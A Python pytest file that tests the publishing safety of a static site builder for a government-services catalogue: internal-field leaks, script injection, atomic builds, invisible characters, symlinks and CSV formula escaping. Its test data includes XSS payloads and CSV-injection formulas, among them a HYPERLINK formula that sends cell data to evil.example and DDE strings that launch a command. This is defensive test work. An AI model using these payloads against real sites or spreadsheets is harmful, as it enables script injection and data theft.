"""Safe publishing: internal fields never reach a public build, content cannot inject script, and a failed
build leaves the published site exactly as it was."""

from __future__ import annotations

import datetime as dt
import hashlib
import json
import os
import re
import shutil
from html.parser import HTMLParser
from pathlib import Path

import pytest
import yaml
from hypothesis import example, given
from hypothesis import strategies as st

from build_tools.booklet import Size, booklet_halls, data_version, make_booklet, render_html
from build_tools.cli import main as cli
from build_tools.load.yamlpos import load_text
from build_tools.model import Audience, load_catalogue, view
from build_tools.model.audience import is_internal
from build_tools.publish import build
from build_tools.schema import BY_FOLDER
from build_tools.settings import load_settings
from build_tools.validate import validate_tree

from .support import copy_project
from .test_import import write_csvs


def _walk(model, data, visit, path=()):
    """Call visit(model, key, data, path) for every field present in `data`, at any depth."""
    if not isinstance(data, dict):
        return
    for key, value in list(data.items()):
        if key not in model.model_fields:
            continue
        visit(model, key, data, path + (key,))
        inner = _submodel(model.model_fields[key].annotation)
        if inner is None:
            continue
        for item in value if isinstance(value, list) else [value]:
            _walk(inner, item, visit, path + (key,))


def _submodel(annotation):
    import typing

    from pydantic import BaseModel

    for arg in (annotation, *typing.get_args(annotation)):
        if isinstance(arg, type) and issubclass(arg, BaseModel):
            return arg
        for inner in typing.get_args(arg):
            if isinstance(inner, type) and issubclass(inner, BaseModel):
                return inner
    return None


def _load(path: Path):
    """Read with the project's loader: PyYAML's own would turn a key like `no:` into False."""
    doc, problems = load_text(path.name, path.read_text(encoding="utf-8"))
    assert doc is not None, problems
    return doc.data


def _edit_all(root: Path, edit) -> None:
    for folder, ctype in BY_FOLDER.items():
        for path in sorted((root / folder).glob("*.yaml")):
            data = _load(path)
            _walk(ctype.model, data, edit)
            path.write_text(yaml.safe_dump(data, allow_unicode=True, sort_keys=False), encoding="utf-8")


def _site_texts(site: Path):
    """Every output file as text."""
    for path in site.rglob("*"):
        if path.is_file():
            yield path, path.read_bytes().decode("utf-8", errors="ignore")


def test_internal_fields_never_reach_the_public_build(tmp_path):
    root = copy_project(tmp_path / "p")
    planted: list[str] = []

    def plant(model, key, data, path):
        if is_internal(model, key):
            n = len(planted)
            value = f"010-0000-{9000 + n}" if "phone" in key else f"SENTINEL{n:04d}内部"
            data[key] = value
            planted.append(value)

    _edit_all(root, plant)
    # Internal fields that were absent get planted too, so every kind of internal field is covered.
    extra = {"matters": {"staff_notes": "SENTINELMATTER", "internal_phone": "010-0000-8888"}, "halls": {"duty_phone": "010-0000-8777"},
             "sop": {"approved_by": "SENTINELSOP"}}
    for folder, fields in extra.items():
        for path in (root / folder).glob("*.yaml"):
            data = _load(path)
            data.update(fields)
            path.write_text(yaml.safe_dump(data, allow_unicode=True, sort_keys=False), encoding="utf-8")
    planted += [v for fields in extra.values() for v in fields.values()]
    staff_only = []
    for path in (root / "sop").glob("*.yaml"):
        data = _load(path)
        if data["audience"] == "内部":
            data["title"] = data["title"] + f"SENTINELSTAFFSOP{len(staff_only)}"
            staff_only.append(data["title"][-18:])
            path.write_text(yaml.safe_dump(data, allow_unicode=True, sort_keys=False), encoding="utf-8")
    assert len(planted) > 20 and staff_only

    public = root / "site"
    build(root, Audience.PUBLIC, public)
    leaks = [(p.relative_to(public).as_posix(), s) for p, text in _site_texts(public) for s in planted + staff_only if s in text]
    assert leaks == []
    staff = root / "site-staff"
    build(root, Audience.STAFF, staff)
    everything = "\n".join(text for _, text in _site_texts(staff))
    assert all(s in everything for s in ["SENTINELMATTER", "SENTINELSOP", *staff_only])


PAYLOADS = ['<script>alert("xss")</script>', "[点我](javascript:alert(1))", '<img src=x onerror=alert(1)>',
            '"><svg onload=alert(1)>', "<a href='javascript:alert(1)'>x</a>", "{#id onclick=alert(1)}"]
FREE_TEXT = {"name", "summary", "text", "title", "notes", "source", "condition", "q", "a", "excerpt", "review_standard",
             "change", "reason", "address", "transport", "accessibility", "fee", "note", "action", "standard", "script", "say"}


class _ActiveContent(HTMLParser):
    """What a browser would execute: event-handler attributes, javascript: URLs, and script elements that
    carry the payload (the text is fine: shown escaped, it is harmless)."""

    def __init__(self):
        super().__init__()
        self.found: list[str] = []
        self._in_script = False

    def handle_starttag(self, tag, attrs):
        for name, value in attrs:
            if name.startswith("on"):
                self.found.append(f"<{tag} {name}=…>")
            if name in ("href", "src", "action", "formaction") and value and value.strip().lower().startswith("javascript:"):
                self.found.append(f"<{tag} {name}={value}>")
        if tag in ("img", "svg", "iframe", "object", "embed") and any(v == "x" for _, v in attrs):
            self.found.append(f"<{tag}> from content")
        # JSON-LD and other data blocks are inert; only script elements a browser runs count.
        self._in_script = tag == "script" and (dict(attrs).get("type") or "text/javascript") in ("text/javascript", "module")

    def handle_endtag(self, tag):
        self._in_script = False

    def handle_data(self, data):
        if self._in_script and "alert(" in data:
            self.found.append("script element with content payload")


def test_content_cannot_inject_script(tmp_path):
    root = copy_project(tmp_path / "p")
    count = 0

    def inject(model, key, data, path):
        nonlocal count
        if key == "examples":
            del data[key]  # worked examples are checks, never shown; their expected names would no longer match
            return
        if key in FREE_TEXT and isinstance(data[key], str):
            closing = "》" if data[key].startswith("《") else ""  # a law's title stays a valid title
            data[key] = data[key][:20] + PAYLOADS[count % len(PAYLOADS)] + closing
            count += 1
        elif key == "popular_names":
            data[key] = data[key] + [PAYLOADS[count % len(PAYLOADS)]]
            count += 1

    _edit_all(root, inject)
    assert count > 500
    site = root / "site"
    assert cli(["build", "--root", str(root), "--out", str(site), "--no-booklets"]) == 0
    pages = [(path.relative_to(site).as_posix(), text) for path, text in _site_texts(site) if path.suffix in (".html", ".svg")]
    # The booklets are typeset from HTML made from the same catalogue: that HTML is what must be clean.
    catalogue, settings = view(load_catalogue(root), Audience.PUBLIC), load_settings(root)
    booklets = [(f"booklets/{hall}.html", render_html(make_booklet(catalogue, settings, hall, Size.A5, data_version(root), dt.date.today())))
                for hall in booklet_halls(catalogue)]
    assert booklets and any("&lt;script&gt;" in html for _, html in booklets)
    hits = []
    for where, text in pages + booklets:
        finder = _ActiveContent()
        finder.feed(text)
        hits += [(where, h) for h in finder.found]
    assert hits == []
    page = (site / "matters" / "qiye-sheli-dengji" / "index.html").read_text(encoding="utf-8")
    assert "&lt;script&gt;" in page or "alert(&quot;xss&quot;)" in page, "the payload is shown as text, not dropped silently"


def test_pages_carry_a_content_security_policy(tmp_path):
    root = copy_project(tmp_path / "p")
    site = root / "site"
    build(root, Audience.PUBLIC, site)
    for path in site.rglob("*.html"):
        html = path.read_text(encoding="utf-8")
        assert 'http-equiv="Content-Security-Policy"' in html, path
        inline = [m for m in re.findall(r"<script(?![^>]*\bsrc=)([^>]*)>", html) if "application/json" not in m and "ld+json" not in m]
        assert inline == [], f"{path}: inline script would be blocked by the CSP"


def _snapshot(site: Path) -> dict[str, str]:
    return {p.relative_to(site).as_posix(): hashlib.sha256(p.read_bytes()).hexdigest() for p in sorted(site.rglob("*")) if p.is_file()}


@pytest.mark.parametrize("breakage", ["content", "template"])
def test_failed_build_keeps_the_old_site_byte_for_byte(tmp_path, breakage):
    root = copy_project(tmp_path / "p")
    site = root / "site"
    build(root, Audience.PUBLIC, site)
    before = _snapshot(site)
    if breakage == "content":
        (root / "matters" / "qiye-sheli-dengji.yaml").write_text("id: qiye-sheli-dengji\nname: [\n", encoding="utf-8")
    else:
        (root / "theme" / "main.html").write_text("{% extends 'base.html' %}{% block content %}{{ undefined_macro() }}{% endblock %}", encoding="utf-8")
    assert cli(["build", "--root", str(root), "--out", str(site), "--no-booklets"]) == 1
    assert _snapshot(site) == before
    assert not [p for p in site.parent.iterdir() if p.name.startswith(".site-")], "no half-built folder left behind"


def _tree(folder: Path) -> dict[str, str]:
    """Every file under `folder` (links not followed) with its hash."""
    return {p.relative_to(folder).as_posix(): hashlib.sha256(p.read_bytes()).hexdigest()
            for p in sorted(folder.rglob("*")) if p.is_file() and not p.is_symlink()}


def test_build_replaces_only_a_folder_it_built(tmp_path, capsys):
    root = copy_project(tmp_path / "p")
    (root / ".git").mkdir()
    (root / ".git" / "HEAD").write_text("ref: refs/heads/main\n", encoding="utf-8")
    notes = tmp_path / "notes"
    notes.mkdir()
    (notes / "a.txt").write_text("别删我", encoding="utf-8")
    before = _tree(tmp_path)
    for out in (root, root / "matters", notes, notes / "a.txt", tmp_path):
        assert cli(["build", "--root", str(root), "--out", str(out), "--no-booklets"]) == 1, out
        err = capsys.readouterr().err
        assert "没有构建" in err and "Traceback" not in err, err
    assert _tree(tmp_path) == before
    assert not [p for p in tmp_path.rglob(".*-new-*")], "nothing staged either"
    # An empty folder may be built into; the site then carries the marker, so the next build may replace it.
    empty = tmp_path / "empty"
    empty.mkdir()
    assert cli(["build", "--root", str(root), "--out", str(empty), "--no-booklets", "--quiet"]) == 0
    assert (empty / ".baike-site").is_file() and (empty / "index.html").is_file()


def _children(pid: int) -> set[int]:
    found: set[int] = set()
    for task in Path(f"/proc/{pid}/task").glob("*/children"):
        found |= {int(c) for c in task.read_text().split()}
    return found


def _running(pid: int) -> bool:
    """Alive and not a zombie (a reparented child is reaped by whoever adopts it, maybe later)."""
    try:
        return Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()[0] != "Z"
    except (FileNotFoundError, ProcessLookupError):
        return False


def _wait(predicate, what: str, seconds: float = 120) -> None:
    import time

    deadline = time.monotonic() + seconds
    while not predicate():
        assert time.monotonic() < deadline, what
        time.sleep(0.02)


@pytest.mark.skipif(not Path("/proc/self/task").is_dir(), reason="reads process children from /proc (Linux)")
def test_a_killed_build_leaves_no_workers_and_the_next_build_clears_its_staging(tmp_path):
    import signal
    import subprocess
    import sys

    root = copy_project(tmp_path / "p")
    build_proc = subprocess.Popen([sys.executable, "-m", "build_tools", "build", "--root", str(root), "--no-booklets", "--quiet", "--jobs", "2"],
                                  cwd=Path(__file__).resolve().parent.parent, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    try:
        _wait(lambda: len(_children(build_proc.pid)) >= 2 or build_proc.poll() is not None, "the build never started its workers")
        workers = _children(build_proc.pid)
        assert build_proc.poll() is None and len(workers) >= 2
        build_proc.send_signal(signal.SIGKILL)
    finally:
        build_proc.wait()
    _wait(lambda: not any(_running(pid) for pid in workers), f"workers {workers} outlived the build they worked for")
    left = sorted(p.name for p in root.iterdir() if p.name.startswith(".site-"))
    assert any(name.startswith(f".site-new-{build_proc.pid}-") for name in left), left
    running = root / f".site-new-{os.getpid()}-elsewhere"  # a build still running (this process) keeps its folder
    running.mkdir()
    assert cli(["build", "--root", str(root), "--no-booklets", "--quiet"]) == 0
    assert not [p for p in root.iterdir() if p.name.startswith((f".site-new-{build_proc.pid}-", f".site-aside-{build_proc.pid}-"))]
    assert running.is_dir()


def _unbounded_text_fields(model, seen=None) -> list[str]:
    """Fields of `model` (at any depth) that take text without a maximum length or a bounded pattern."""
    import types
    import typing

    import annotated_types
    from pydantic import BaseModel

    seen = set() if seen is None else seen
    found: list[str] = []

    def bounded(meta) -> bool:
        """A maximum length, or an anchored pattern without an open-ended repetition (`*`, `+`, `{n,}`)."""
        patterns = [re.sub(r"\\.", "", p) for m in meta if (p := getattr(m, "pattern", None))]
        return (any(isinstance(m, annotated_types.MaxLen) or getattr(m, "max_length", None) is not None for m in meta)
                or any(p.startswith("^") and p.endswith("$") and not re.search(r"[*+]|\{\d+,\}", p) for p in patterns))

    def check(where: str, annotation, meta) -> None:
        if typing.get_origin(annotation) is typing.Annotated:
            inner, *extra = typing.get_args(annotation)
            return check(where, inner, [*meta, *extra])
        if isinstance(annotation, type) and issubclass(annotation, BaseModel):
            found.extend(_unbounded_text_fields(annotation, seen))
        elif annotation is str:
            if not bounded(meta):
                found.append(where)
        else:
            union = typing.get_origin(annotation) in (typing.Union, types.UnionType)
            for arg in typing.get_args(annotation):
                check(where, arg, meta if union else [])

    if model not in seen:
        seen.add(model)
        for name, info in model.model_fields.items():
            check(f"{model.__name__}.{name}", info.annotation, info.metadata)
    return found


def test_every_text_field_has_a_maximum_length():
    """With the loader's size limits, this bounds what one value can put on a page (issue #20: amplification)."""
    seen: set = set()
    assert [f for ctype in BY_FOLDER.values() for f in _unbounded_text_fields(ctype.model, seen)] == []


#: One text field per content type, and how the sample's first file of the folder writes it.
_TEXT_LINES = {"departments": "name", "halls": "transport", "matters": "name", "sop": "title", "guides": "title"}


def _first_line(path: Path, key: str) -> tuple[int, str]:
    lines = path.read_text(encoding="utf-8").splitlines()
    n = next(i for i, line in enumerate(lines) if line.startswith(f"{key}: "))
    return n + 1, lines[n]


@pytest.mark.parametrize("written", ["raw", "escaped"])
def test_invisible_characters_are_refused_in_every_content_type(tmp_path, capsys, written):
    """Issue #20: NUL, ESC, BEL, direction overrides, zero-width characters and U+2028 in names, titles and a
    hall's transport; as typed into the file (the loader sees them) or as double-quoted escapes (the validator)."""
    root = copy_project(tmp_path / "p")
    chars = ["\u202e", "\u200b", "\u2028", "\x1b", "\x00"]
    expected = []
    for (folder, key), char in zip(_TEXT_LINES.items(), chars):
        path = sorted((root / folder).glob("*.yaml"))[0]
        number, line = _first_line(path, key)
        value = line.removeprefix(f"{key}: ")
        if written == "raw":
            new = f"{key}: {value[:2]}{char}{value[2:]}"
            where = (number, len(key) + 2 + 3)
        else:
            new = f'{key}: "{value[:2]}\\u{ord(char):04x}{value[2:]}"'
            where = (number, len(key) + 3)
        text = path.read_text(encoding="utf-8")
        path.write_text(text.replace(line + "\n", new + "\n", 1), encoding="utf-8")
        expected.append((path.relative_to(root).as_posix(), *where, f"U+{ord(char):04X}"))
    assert cli(["build", "--root", str(root), "--out", str(tmp_path / "site"), "--no-booklets"]) == 1
    out, err = capsys.readouterr()
    assert "Traceback" not in out + err and not (tmp_path / "site").exists()
    problems = out.splitlines()
    for rel, line, col, code in expected:
        assert any(p.startswith(f"{rel}:{line}:{col}: ") and code in p and "看不见的" in p for p in problems), (rel, line, col, code, out)


def test_invisible_characters_in_imported_cells_are_named_at_their_cells(tmp_path, capsys):
    from build_tools.commands import import_data
    from build_tools.export import export_files

    root = copy_project(tmp_path / "p")
    files = export_files(view(load_catalogue(root), Audience.STAFF), load_settings(root))
    matters = write_csvs(files, tmp_path)
    rows = matters.read_text(encoding="utf-8-sig").splitlines()
    header = rows[0].split(",")
    fields = rows[1].split(",")
    name_col = header.index("事项名称")
    fields[name_col] = fields[name_col][:1] + "\x1b[31m" + fields[name_col][1:]
    matters.write_text("\n".join([rows[0], ",".join(fields), *rows[2:]]) + "\n", encoding="utf-8-sig")
    parser = __import__("argparse").ArgumentParser()
    import_data.add_arguments(parser)
    assert import_data.run(parser.parse_args([str(matters), "--root", str(root), "--update", "--dry-run"])) == 1
    out, err = capsys.readouterr()
    assert f"{matters}:2:{name_col + 1}: 列“事项名称”：字段“name”的第 2 个字是看不见的控制字符 U+001B（ESC，转义）" in out, out
    assert "Traceback" not in out + err


FORMULAS = ['=HYPERLINK("http://evil.example/?"&A2,"x")', "=cmd|' /C calc'!A0", "+SUM(1,1)", "@SUM(1+1)", "-cmd|' /C calc'!A0"]


def _plant_formulas(root: Path) -> None:
    """A matter named like a formula, a department whose short name is one (the statistics list it), and a summary
    that starts with an apostrophe, as ordinary text may."""
    def edit(rel: str, key: str, value: str) -> None:
        path = root / rel
        text = path.read_text(encoding="utf-8")
        path.write_text(re.sub(rf"(?m)^{key}: .*$", lambda _: f"{key}: {json.dumps(value, ensure_ascii=False)}", text, count=1), encoding="utf-8")

    edit("matters/wanshui-zhengming.yaml", "name", FORMULAS[0])
    edit("matters/wanshui-zhengming.yaml", "summary", "'引号开头，个人开具纳税记录。")
    edit("departments/swj.yaml", "short_name", FORMULAS[2])


def _csv_cells(data: bytes) -> list[str]:
    import csv
    import io

    return [cell for row in csv.reader(io.StringIO(data.decode("utf-8-sig"))) for cell in row]


def test_no_csv_the_build_publishes_holds_a_formula(tmp_path):
    """Issue #20: formula-like text went unescaped into the public api/catalogue*.csv and stats/statistics.csv."""
    root = copy_project(tmp_path / "p")
    _plant_formulas(root)
    assert validate_tree(root).ok
    for audience, out in ((Audience.PUBLIC, root / "site"), (Audience.STAFF, root / "site-staff")):
        build(root, audience, out)
        files = {p.relative_to(out).as_posix(): _csv_cells(p.read_bytes()) for p in out.rglob("*.csv")}
        assert {"api/catalogue.csv", "stats/statistics.csv"} <= set(files)
        assert [(name, c) for name, cells in files.items() for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))] == []
        everything = [c for cells in files.values() for c in cells]
        assert "'" + FORMULAS[0] in everything and "'" + FORMULAS[2] in everything and "''引号开头，个人开具纳税记录。" in everything


def test_formulas_round_trip_through_csv_and_are_warned_about_at_import(tmp_path, capsys):
    from build_tools.commands import import_data
    from build_tools.export import export_files

    from .test_import import empty_tree

    root = copy_project(tmp_path / "p")
    _plant_formulas(root)
    first = export_files(view(load_catalogue(root), Audience.STAFF), load_settings(root))
    folder = tmp_path / "csv"
    folder.mkdir()
    source = write_csvs(first, folder)
    target = empty_tree(tmp_path / "t", root)
    parser = __import__("argparse").ArgumentParser()
    import_data.add_arguments(parser)
    assert import_data.run(parser.parse_args([str(source), "--root", str(target)])) == 0
    out = capsys.readouterr().out
    assert any(line.startswith(f"{folder / 'catalogue.csv'}:") and "警告" in line and "像电子表格公式" in line for line in out.splitlines()), out
    assert load_catalogue(target).matters == load_catalogue(root).matters
    again = export_files(view(load_catalogue(target), Audience.STAFF), load_settings(target))
    assert [name for name in first if name.endswith(".csv") and again[name] != first[name]] == []


@given(st.text(max_size=30))
@example("=1+1")
@example("'=1+1")
@example("''")
@example("+86 10 0000 0000")
def test_a_csv_cell_reads_back_as_the_text_it_was_written_from(text):
    from build_tools.files import FORMULA_START, csv_cell, csv_value

    cell = csv_cell(text)
    assert csv_value(cell) == text and not cell.startswith(FORMULA_START)


@pytest.mark.parametrize("name", ["con.yaml", "CON.yaml", "nul.backup.yaml", "com1.yaml", "Lpt9.yaml"])
def test_a_file_named_for_a_windows_device_is_refused(tmp_path, name):
    root = copy_project(tmp_path / "p")
    (root / "matters" / name).write_bytes((root / "matters" / "wanshui-zhengming.yaml").read_bytes())
    problems = [str(p) for p in validate_tree(root).problems if p.path == f"matters/{name}"]
    assert problems == [f"matters/{name}:1:1: 文件名“{name}”是 Windows 保留的设备名，在 Windows 电脑上无法检出和打开；请改名（并改 id）"]


@pytest.mark.parametrize("what", ["file", "folder", "content folder"])
def test_content_linked_from_outside_the_repository_is_neither_read_nor_published(tmp_path, capsys, what):
    """Issue #20: a symbolic link to a file outside the repository was read and published."""
    root = copy_project(tmp_path / "p")
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    secret = (root / "matters" / "wanshui-zhengming.yaml").read_text(encoding="utf-8").replace("id: wanshui-zhengming", "id: secret-x")
    (elsewhere / "secret-x.yaml").write_text(secret.replace("开具个人完税证明", "SECRETOUTSIDE"), encoding="utf-8")
    if what == "file":
        (root / "matters" / "secret-x.yaml").symlink_to(elsewhere / "secret-x.yaml")
        rel = "matters/secret-x.yaml"
    elif what == "folder":
        (root / "matters" / "more").symlink_to(elsewhere)
        rel = "matters/more"
    else:
        shutil.move(root / "guides", elsewhere / "guides")
        (root / "guides").symlink_to(elsewhere / "guides")
        rel = "guides"
    result = validate_tree(root)
    assert f"{rel}:1:1: 这是指向仓库以外的符号链接" in "\n".join(map(str, result.problems))
    assert "secret-x" not in result.parsed.matters
    assert cli(["build", "--root", str(root), "--out", str(tmp_path / "site"), "--no-booklets"]) == 1
    assert "Traceback" not in "".join(capsys.readouterr()) and not (tmp_path / "site").exists()
